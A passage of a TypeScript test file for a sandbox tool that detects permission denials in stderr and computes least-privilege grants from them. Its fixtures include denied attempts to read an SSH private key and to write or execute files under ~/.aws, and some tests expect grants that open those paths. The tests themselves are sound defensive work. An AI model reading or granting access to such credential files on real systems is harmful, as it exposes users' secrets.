    expect(detect(`cat: ${sb.sshKey}: Permission denied`, 0)).toEqual([]);
    expect(detect(`cat: ${sb.sshKey}: Permission denied`, null, 9)).toEqual([show({ op: 'read', path: sb.sshKey })]);
  });

  it('relative paths are relative to the working directory', () => {
    expect(detect('cat: ../.ssh/id_rsa: Permission denied')).toEqual([show({ op: 'read', path: sb.sshKey })]);
  });

  it('a rename between two denied directories needs both sides', () => {
    expect(detect(`mv: cannot move '${H('docs/a.txt')}' to '${H('.aws/a.txt')}': Permission denied`)).toEqual([
      show({ op: 'rename', path: H('docs/a.txt') }),
      show({ op: 'rename', path: H('.aws/a.txt') }),
    ]);
  });

  it('what the policy allows is not a denial, whatever the words', () => {
    expect(detect(`cat: ${P('hello.txt')}: Permission denied`)).toEqual([]);
    expect(detect(`bash: line 1: cd: ${H('.ssh')}: Permission denied`)).toEqual([]);
    expect(detect(`${H('docs/bad.c')}:1:2: error: #error Permission denied by design`)).toEqual([]);
    expect(detect('curl: (6) Could not resolve host: example.com')).toEqual([]);
  });

  it('a Unix socket refused by its modes is not a TCP denial', () => {
    const tb = ['Traceback (most recent call last):', '  File "/w/client.py", line 3, in <module>', '    s.connect("/var/run/docker.sock")', 'PermissionError: [Errno 13] Permission denied'];
    expect(detect(tb.join('\n'))).toEqual([]);
  });

  it('a new path whose parent does not exist cannot be a refused create (a line cut short)', () => {
    expect(detect(`${sb.home.slice(4)}/.ssh/id_rsa: Permission denied`)).toEqual([]);
  });

  it('one port is one denial, however the host was spelled', () => {
    expect(detect('curl: (7) Failed to connect to localhost port 8080 after 0 ms: Couldn\'t connect to server\nError: connect EACCES 127.0.0.1:8080')).toHaveLength(1);
  });
});

describe('leastGrant', () => {
  const d = (x: Partial<Denial> & { op: DenialOp }): Denial => ({ evidence: 'test', source: 'stderr', ...x });

  it('a read of a file grants that file', () => {
    expect(leastGrant(d({ op: 'read', path: sb.sshKey }))).toEqual({ kind: 'read_file', path: sb.sshKey, describe: `read ${sb.sshKey}` });
  });

  it('listing a directory grants reading that directory', () => {
    const g = leastGrant(d({ op: 'list', path: H('.ssh') }));
    expect(g).toMatchObject({ kind: 'read', path: H('.ssh') });
    expect(g.describe).toBe(`read ${H('.ssh')} (directory)`);
  });

  it('a write to an existing file grants writing that file only', () => {
    expect(leastGrant(d({ op: 'write', path: H('.bashrc') }))).toEqual({ kind: 'write_file', path: H('.bashrc'), describe: `write ${H('.bashrc')}` });
  });

  it('a create allows the parent directory when it exists', () => {
    const g = leastGrant(d({ op: 'create', path: H('new.txt') }));
    expect(g).toMatchObject({ kind: 'allow', path: sb.home });
    expect(g.describe).toBe(`create files in ${sb.home} (to create ${H('new.txt')})`);
  });

  it('a create deep below missing directories allows the nearest existing directory, and says so', () => {
    const g = leastGrant(d({ op: 'create', path: H('docs/out/a/b.txt') }));
    expect(g).toMatchObject({ kind: 'allow', path: H('docs') });
    expect(g.describe).toBe(`create files in ${H('docs')} (nearest existing directory of ${H('docs/out/a/b.txt')})`);
  });

  it('a write to a file that no longer exists is a create', () => {
    expect(leastGrant(d({ op: 'write', path: H('docs/gone.txt') }))).toMatchObject({ kind: 'allow', path: H('docs') });
  });

  it('delete and rename allow the parent directory', () => {
    expect(leastGrant(d({ op: 'delete', path: H('docs/a.txt') }))).toMatchObject({ kind: 'allow', path: H('docs'), describe: `change files in ${H('docs')} (to delete ${H('docs/a.txt')})` });
    expect(leastGrant(d({ op: 'rename', path: H('moved.txt') }))).toMatchObject({ kind: 'allow', path: sb.home });
  });

  it('execute grants reading the file (the read right includes execute)', () => {
    expect(leastGrant(d({ op: 'execute', path: H('.aws/hook.sh') }))).toMatchObject({ kind: 'read_file', path: H('.aws/hook.sh') });
  });

  it('TCP: the port when known, all of TCP when not', () => {
    expect(leastGrant(d({ op: 'connect', port: 8080, host: '127.0.0.1' }))).toEqual({ kind: 'tcp_connect', port: 8080, describe: 'connect to TCP port 8080 (127.0.0.1)' });
    expect(leastGrant(d({ op: 'bind', port: 3000 }))).toEqual({ kind: 'tcp_bind', port: 3000, describe: 'listen on TCP port 3000' });
    const any = leastGrant(d({ op: 'connect' }));
    expect(any.kind).toBe('tcp');
    expect(any.port).toBeUndefined();
  });

  it('what the corpus finds turns into grants that name the path the message named', () => {
    const found = detectStderrDenials(`touch: cannot touch '${H('docs/new.txt')}': Permission denied\n`, {
      cwd: sb.project,
      exitCode: 1,
      compiled: policies.default,
    });
    expect(found).toHaveLength(1);
    expect(found.map(leastGrant)).toEqual([{ kind: 'allow', path: H('docs'), describe: `create files in ${H('docs')} (to create ${H('docs/new.txt')})` }]);
  });
});
